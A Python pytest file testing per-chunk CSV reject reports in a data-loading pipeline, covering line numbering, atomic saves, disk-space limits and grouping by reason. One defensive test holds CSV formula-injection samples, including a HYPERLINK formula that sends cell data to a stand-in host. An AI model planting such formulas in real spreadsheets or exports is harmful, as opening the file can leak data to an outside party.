"""Per-chunk reject files and their concatenation with file line numbers."""

from __future__ import annotations

import csv
import io
import os
import random
import shutil
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.dataset import reject_report
from shared.dataset.reject_report import ChunkReport, _offsets_from_chunks
from shared.fileformat.promotion_rows import ChunkStats, parse_chunk
from worker.chunking import plan_chunks, read_range

JOB = "0123456789abcdef0123456789abcdef"
GOOD = "a{i},1.5,2018-08-04 05:32:31 +0200 CEST"


def _report(directory: Path, offsets: list[tuple[int, int]]) -> list[list[str]]:
    text = b"".join(reject_report.stream(directory, JOB, offsets)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def _load(directory: Path, data: bytes, chunk_size: int) -> list[dict[str, int]]:
    """What load_chunk does for each chunk, in a shuffled order; returns the chunk results."""
    chunks = plan_chunks(io.BytesIO(data), len(data), chunk_size)
    results = []
    order = list(enumerate(chunks))
    random.Random(len(data)).shuffle(order)
    for index, (start, end) in order:
        report = ChunkReport(directory, JOB, index)
        stats = ChunkStats(on_reject=report.add)
        for _ in parse_chunk(read_range(io.BytesIO(data), start, end), start, 100, stats):
            pass
        report.save()
        results.append({"index": index, "lines": stats.lines, "rows_rejected": stats.rows_rejected})
    return results


@settings(max_examples=60, deadline=None)
@given(
    kinds=st.lists(st.sampled_from(["good", "bad", "blank", "long", "utf8", "quote"]), max_size=80),
    chunk_size=st.integers(1, 400),
)
def test_report_lists_every_rejected_line_with_its_file_line_number(
    tmp_path_factory: object, kinds: list[str], chunk_size: int
) -> None:
    directory = Path(str(tmp_path_factory.mktemp("r")))  # type: ignore[attr-defined]
    make = {
        "good": lambda i: GOOD.format(i=i).encode(),
        "bad": lambda i: f"bad {i}".encode(),
        "blank": lambda i: b"",
        "long": lambda i: b"x" * 2000,
        "utf8": lambda i: b"caf\xe9," + str(i).encode(),
        "quote": lambda i: f'"a{i}",1,"2018-08-04 05:32:31'.encode(),
    }
    lines = [make[k](i) for i, k in enumerate(kinds)]
    data = b"".join(line + b"\n" for line in lines)
    results = _load(directory, data, chunk_size)
    index = _offsets_from_chunks(results)
    assert index["lines"] == len(lines)
    rows = _report(directory, [(i, b) for i, b in index["chunks"]])
    assert rows[0] == ["line", "reason", "raw"]
    want = [n + 1 for n, k in enumerate(kinds) if k not in ("good", "blank")]
    assert [int(r[0]) for r in rows[1:]] == want
    for line_no, reason, raw in rows[1:]:
        original = lines[int(line_no) - 1].decode("utf-8", errors="replace")
        assert raw == original[: reject_report.RAW_CHARS]
        assert reason
    assert not [p for p in os.listdir(directory) if p.endswith(".tmp")]


def test_a_redelivered_chunk_replaces_its_file(tmp_path: Path) -> None:
    for attempt in range(2):
        report = ChunkReport(tmp_path, JOB, 3)
        report.add(1, f"reason {attempt}", "x")
        report.save()
    assert _report(tmp_path, [(3, 10)])[1:] == [["11", "reason 1", "x"]]
    assert os.listdir(tmp_path) == [f"{JOB}.3.csv"]


def test_an_unsaved_delivery_leaves_no_file(tmp_path: Path) -> None:
    report = ChunkReport(tmp_path, JOB, 0)
    report.add(1, "r", "x")
    assert len(os.listdir(tmp_path)) == 1  # the temporary file
    del report
    assert os.listdir(tmp_path) == []


def test_clean_chunks_write_nothing(tmp_path: Path) -> None:
    ChunkReport(tmp_path / "rejects", JOB, 0).save()
    assert not (tmp_path / "rejects").exists()


def test_offsets_stop_at_the_first_chunk_missing() -> None:
    chunks = [
        {"index": 2, "lines": 5, "rows_rejected": 1},
        {"index": 0, "lines": 10, "rows_rejected": 2},
        {"index": 1, "lines": 7, "rows_rejected": 0},
        {"index": 4, "lines": 3, "rows_rejected": 1},
    ]
    assert _offsets_from_chunks(chunks) == {"chunks": [[0, 0], [2, 17]], "lines": 22}


def test_raw_line_with_quotes_commas_and_cr_stays_one_record(tmp_path: Path) -> None:
    report = ChunkReport(tmp_path, JOB, 0)
    raw = 'a,"b""c",\r,d'
    report.add(5, "malformed quoting in field 2: x", raw)
    report.save()
    assert _report(tmp_path, [(0, 100)])[1:] == [["105", "malformed quoting in field 2: x", raw]]


def test_raw_lines_a_spreadsheet_would_run_as_formulas_are_shown_as_text(tmp_path: Path) -> None:
    report = ChunkReport(tmp_path, JOB, 0)
    dangerous = [
        '=HYPERLINK("http://x.example/?"&A1,"click"),1.5,2018-08-04 05:32:31',
        "+1+2,1.5,2018-08-04 05:32:31",
        "-2+3,1.5,2018-08-04 05:32:31",
        "@SUM(A1:A9),1.5,2018-08-04 05:32:31",
        "\t=1+1,1.5,2018-08-04 05:32:31",
    ]
    plain = "bad id!,12.5,=2018-08-04 05:32:31"  # a formula sign inside the line is harmless
    for i, line in enumerate([*dangerous, plain]):
        report.add(i + 1, "some reason", line)
    report.save()
    raws = [row[2] for row in _report(tmp_path, [(0, 0)])[1:]]
    assert raws == [*("'" + line for line in dangerous), plain]


def test_a_report_stops_listing_when_the_volume_falls_under_the_margin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A report never takes the room the next upload needs: under MIN_FREE_BYTES it lists
    no more lines, and still counts every reject by reason."""
    free = {"bytes": 10_000}
    usage = shutil.disk_usage(tmp_path)
    monkeypatch.setattr(
        reject_report.shutil, "disk_usage", lambda _: usage._replace(free=free["bytes"])
    )
    report = reject_report.ChunkReport(tmp_path, "j" * 32, 0, limit=None, min_free_bytes=5_000)
    for n in range(reject_report.FREE_CHECK_EVERY):
        report.add(n + 1, f"price '-{n}' is negative", f"x,-{n},d")
    free["bytes"] = 4_999  # the next check finds the margin broken
    for n in range(10):
        report.add(n + 1, "id is empty", ",1,d")
    report.save()
    assert report.cut and report.listed == reject_report.FREE_CHECK_EVERY
    assert report.by_reason == {
        "price '…' is negative": reject_report.FREE_CHECK_EVERY,
        "id is empty": 10,
    }
    lines = reject_report.chunk_file(tmp_path, "j" * 32, 0).read_text().splitlines()
    assert len(lines) == reject_report.FREE_CHECK_EVERY


def test_a_report_lists_its_share_of_the_bound_and_counts_the_rest() -> None:
    assert reject_report.lines_per_chunk(10_000, 64) == 157
    assert reject_report.lines_per_chunk(0, 5) == 0
    assert reject_report.space_bound(100, 3) == 34 * 3 * reject_report.BYTES_PER_LINE
    assert reject_report.reason_kind("id 'x' is longer than 64 characters (70)") == (
        "id '…' is longer than N characters (N)"
    )
